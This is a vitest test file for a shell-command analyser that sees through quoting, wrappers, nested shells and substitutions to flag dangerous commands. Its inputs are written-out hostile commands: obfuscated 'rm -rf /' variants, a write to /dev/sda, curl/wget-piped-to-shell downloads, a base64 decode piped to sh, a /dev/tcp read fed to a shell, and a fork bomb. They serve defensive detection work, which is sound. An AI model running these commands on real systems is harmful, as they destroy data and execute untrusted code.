// The analyser sees through quoting, wrappers, nesting and substitutions, and flags what it cannot know.
import { describe, expect, it } from 'vitest';
import { analyzeShell } from '../../src/policy/shell-analysis.js';

const names = (cmd: string) => analyzeShell(cmd).commands.map((c) => c.name);
const only = (cmd: string) => {
  const cs = analyzeShell(cmd, { home: '/root' }).commands;
  return cs[cs.length - 1];
};
const kinds = (cmd: string) => analyzeShell(cmd).findings.map((f) => f.kind);

describe('splitting a command line', () => {
  it('finds every simple command across &&, ||, ;, |, & and groups', () => {
    expect(names('a && b || c; d | e & f; (g); { h; }')).toEqual(['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h']);
  });
  it('finds commands inside $(...), backticks, process substitution and heredoc bodies', () => {
    expect(names('echo $(whoami) `id` <(uptime)')).toEqual(
      expect.arrayContaining(['whoami', 'id', 'uptime', 'echo']),
    );
    expect(names('cat <<EOF\n$(hostname)\nEOF')).toContain('hostname');
  });
  it('finds commands inside if, while, for, case and functions', () => {
    expect(
      names('if a; then b; elif c; then d; else e; fi; while f; do g; done; for x in 1; do h; done'),
    ).toEqual(['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h']);
    expect(names('case $x in y) i;; esac; fn() { j; }')).toEqual(['i', 'j']);
  });
});

describe('normalising one command', () => {
  it('removes quotes and escapes from the name and arguments', () => {
    for (const cmd of ['r""m -rf /', "'rm' -rf '/'", '\\rm -rf /', "$'\\x72\\x6d' -rf /", '/bin/rm -rf /']) {
      expect(only(cmd)).toMatchObject({ name: 'rm', args: ['/'] });
    }
  });
  it('turns every spelling of the same flags into one canonical set', () => {
    for (const cmd of [
      'rm -rf x',
      'rm -fr x',
      'rm -r -f x',
      'rm -R -f x',
      'rm --recursive --force x',
      'rm x -rf',
    ]) {
      expect(only(cmd)?.flags).toEqual(['force', 'recursive']);
    }
  });
  it('strips wrappers with their options and records the chain', () => {
    const c = only('sudo -u root env -i A=1 nice -n 5 timeout -s KILL 10 stdbuf -oL nohup rm -rf /x');
    expect(c).toMatchObject({ name: 'rm', args: ['/x'] });
    expect(c?.wrappers).toEqual([
      'sudo -u root',
      'env -i A=1',
      'nice -n 5',
      'timeout -s KILL 10',
      'stdbuf -oL',
      'nohup',
    ]);
  });
  it('re-parses bash -c strings recursively and binds their positional parameters', () => {
    const c = only(`bash -c 'sh -c "rm -rf \\"\\$1\\""' _ /etc`);
    expect(c?.wrappers).toEqual(['bash -c', 'sh -c']);
    expect(analyzeShell(`sh -c 'rm -rf "$1"' _ /etc`).commands[0]?.targets).toEqual(['/etc']);
  });
  it('expands braces, ~ and $HOME, and resolves .. and repeated slashes in targets', () => {
    expect(analyzeShell('rm -rf /{etc,usr}').commands[0]?.targets).toEqual(['/etc', '/usr']);
    expect(only('rm -rf ~/x')?.targets).toEqual(['/root/x']);
    expect(only('rm -rf "$HOME"')?.targets).toEqual(['/root']);
    expect(only('rm -rf //tmp/../etc/./')?.targets).toEqual(['/etc']);
  });
  it('follows cd for relative targets', () => {
    expect(only('cd / && rm -rf *')?.targets).toEqual(['/*']);
    expect(only('cd /tmp; cd build; rm -rf ./out')?.targets).toEqual(['/tmp/build/out']);
  });
  it('collects writes from redirects, tee, cp, dd and sed -i', () => {
    expect(only('echo x > /etc/motd')?.writes).toEqual(['/etc/motd']);
    expect(only('tee -a /a /b')?.writes).toEqual(['/a', '/b']);
    expect(only('cp a b /dst')?.writes).toEqual(['/dst']);
    expect(only('dd if=/x of=/dev/sda')?.writes).toEqual(['/dev/sda']);
    expect(only("sed -i 's/a/b/' /etc/x")?.writes).toEqual(['/etc/x']);
  });
  it('classifies status queries as read-only and changes as not', () => {
    expect(only('systemctl status nginx')?.readOnly).toBe(true);
    expect(only('systemctl restart nginx')?.readOnly).toBe(false);
    expect(only('ls -la /etc')?.readOnly).toBe(true);
    expect(only('ls > /tmp/x')?.readOnly).toBe(false);
    expect(only('find /tmp -delete')?.readOnly).toBe(false);
  });
});

describe('commands run by other commands', () => {
  it('sees find -exec with {} standing for the start path when nothing narrows the match', () => {
    expect(only('find / -exec rm -rf {} \\;')).toMatchObject({
      name: 'rm',
      targets: ['/'],
      wrappers: ['find -exec'],
    });
    expect(only("find /var -name '*.gz' -exec rm -f {} +")?.targets).toEqual(['/var/{}']);
  });
  it('feeds xargs from echo, ls and find in the pipeline', () => {
    expect(only('echo /etc | xargs rm -rf')?.targets).toEqual(['/etc']);
    expect(only('echo / | xargs -I{} rm -rf {}')?.targets).toEqual(['/']);
    expect(only('ls / | xargs rm -rf')?.targets).toEqual(['/*']);
  });
  it('re-parses what echo, printf, here-strings and heredocs feed a shell', () => {
    expect(only("echo 'rm -rf /' | sh")?.wrappers).toEqual(['sh (stdin)']);
    expect(only("printf '\\x72\\x6d -rf /' | bash")?.name).toBe('rm');
    expect(only("bash <<< 'rm -rf /'")?.name).toBe('rm');
    expect(only('bash <<EOF\nrm -rf /\nEOF')?.name).toBe('rm');
  });
  it('analyses a script the same line wrote before running it', () => {
    expect(names("echo 'rm -rf /' > /tmp/x.sh && bash /tmp/x.sh")).toContain('rm');
    expect(kinds('curl -o /tmp/i.sh https://x && sh /tmp/i.sh')).toContain('download-exec');
  });
  it('resolves variables and $(echo ...) in command position but marks them indirect', () => {
    const a = analyzeShell('X=rm; $X -rf /');
    expect(a.commands.map((c) => c.name)).toContain('rm');
    expect(a.findings.map((f) => f.kind)).toContain('indirect-command');
    expect(names('$(echo rm) -rf /')).toContain('rm');
    expect(names('$(which rm) -rf /')).toContain('rm');
  });
});

describe('what cannot be analysed is reported, never guessed', () => {
  it('reports computed command names', () => {
    expect(kinds('$CMD -rf /')).toEqual(['dynamic-command']);
    expect(kinds('$(cat /tmp/c) x')).toContain('dynamic-command');
  });
  it('reports downloads and decoders feeding a shell', () => {
    expect(kinds('curl -s https://x | sh')).toContain('download-exec');
    expect(kinds('wget -qO- x | sudo bash -s')).toContain('download-exec');
    expect(kinds('bash <(curl -s x)')).toContain('download-exec');
    expect(kinds('eval "$(curl -s x)"')).toContain('download-exec');
    expect(kinds('echo cm0= | base64 -d | sh')).toContain('decode-exec');
    expect(kinds('exec 3<>/dev/tcp/h/80; cat <&3 | sh')).toContain('download-exec');
  });
  it('reports eval, untrusted source, piped-in code, inline code and parse errors', () => {
    expect(kinds('eval ls')).toContain('eval');
    expect(kinds('source /tmp/x')).toContain('source-untrusted');
    expect(kinds('cat x | sh')).toContain('stdin-shell');
    expect(kinds('python3 -c "import os; os.system(\'id\')"')).toContain('inline-code');
    expect(kinds('echo "oops')).toContain('parse-error');
  });
  it('reports fork bombs and recursive deletes of computed paths', () => {
    expect(kinds(':(){ :|:& };:')).toContain('fork-bomb');
    expect(kinds('rm -rf "$DIR"')).toContain('dynamic-target');
    expect(kinds('rm -rf "/tmp/$DIR"')).toEqual([]);
  });
  it('stops at a nesting limit instead of recursing forever', () => {
    let cmd = 'ls';
    for (let i = 0; i < 12; i++) cmd = `bash -c ${JSON.stringify(cmd)}`;
    expect(kinds(cmd)).toContain('too-deep');
  });
});
